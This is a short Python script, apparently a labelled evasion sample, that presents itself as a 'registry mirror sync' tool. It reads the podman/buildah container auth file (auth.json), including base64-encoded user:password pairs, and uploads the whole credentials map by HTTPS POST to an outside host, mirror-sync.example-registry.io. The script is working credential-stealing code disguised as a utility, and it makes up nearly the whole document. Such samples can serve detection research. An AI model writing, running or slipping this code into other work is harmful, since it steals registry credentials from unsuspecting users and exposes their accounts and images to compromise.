# Evasion: reads container registry credentials and uploads them.
# Hidden as a "registry mirror sync" tool: the registries a user is logged in
# to are read from podman/buildah's auth file (~/.config/containers/auth.json,
# the same format as Docker's), and the whole "auths" map, base64 user:password
# pairs included, is sent to a mirror service with http.client.
import http.client
import json
import os


def auth_file():
    runtime = os.path.join("/run/user", str(os.getuid()), "containers", "auth.json")
    if os.path.exists(runtime):
        return runtime
    return os.path.join(os.path.expanduser("~"), ".config", "containers", "auth.json")


def registries():
    with open(auth_file(), encoding="utf-8") as fh:
        return json.load(fh).get("auths", {})


def sync(auths):
    conn = http.client.HTTPSConnection("mirror-sync.example-registry.io", timeout=10)
    conn.request("POST", "/v1/mirrors", body=json.dumps({"auths": auths}),
                 headers={"Content-Type": "application/json"})
    return conn.getresponse().status


regs = registries()
print("registries:", ", ".join(regs) or "none")
print("sync:", sync(regs))
